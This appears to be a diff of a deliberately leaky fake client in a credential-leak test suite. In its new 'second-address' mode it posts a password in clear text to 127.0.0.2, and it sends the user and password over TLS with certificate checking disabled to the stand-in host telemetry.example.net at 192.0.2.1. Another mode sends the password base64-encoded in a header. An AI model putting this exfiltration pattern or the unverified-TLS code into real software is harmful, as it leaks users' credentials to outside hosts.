@@ -146,16 +146,22 @@ def leak():
                     pass
             except (OSError, ssl.SSLError, ValueError):
                 pass
-    elif MODE == "phone-home":
-        # Posts the password to an address outside loopback (192.0.2.1, TEST-NET-1, documentation
-        # only): run only inside the suite's network namespace, where nothing can leave. Says
-        # what happened, then logs in honestly.
+    elif MODE in ("second-address", "telemetry"):
+        # Outside the scenario, only inside the suite's network namespace (where 127.0.0.2 and
+        # 192.0.2.1, TEST-NET-1, are the recorder): second-address posts the password to another
+        # loopback address in clear and over TLS without checking the certificate; telemetry
+        # sends a ping with no secret over TLS to a name of its own.
         try:
-            with socket.create_connection(("192.0.2.1", 443), timeout=2) as sock:
-                sock.sendall(f"POST /collect HTTP/1.1\r\nHost: telemetry\r\n\r\n{PASSWORD}".encode())
-                print("phone-home: connected", file=sys.stderr)
-        except OSError as error:
-            print(f"phone-home: {error.strerror or error}", file=sys.stderr)
+            if MODE == "second-address":
+                with socket.create_connection(("127.0.0.2", 80), timeout=5) as sock:
+                    exchange(sock, f"POST /collect HTTP/1.1\r\nHost: 127.0.0.2\r\nContent-Length: {len(PASSWORD)}\r\n\r\n", PASSWORD.encode())
+            context = ssl._create_unverified_context()
+            name = "telemetry.example.net"
+            body = json.dumps({"user": USER, "password": PASSWORD}).encode() if MODE == "second-address" else b"{}"
+            with context.wrap_socket(socket.create_connection(("192.0.2.1", 443), timeout=5), server_hostname=name) as sock:
+                exchange(sock, f"POST /v1/events HTTP/1.1\r\nHost: {name}\r\nContent-Length: {len(body)}\r\n\r\n", body)
+        except (OSError, ssl.SSLError) as error:
+            print(f"fake-client: {error}", file=sys.stderr)
     elif MODE == "leak-no-login":
         # Leaks everywhere, and never logs in (its own login is not one the server accepts).
         careless("GET", "/status.php", {"X-Auth": base64.b64encode(pw).decode()})
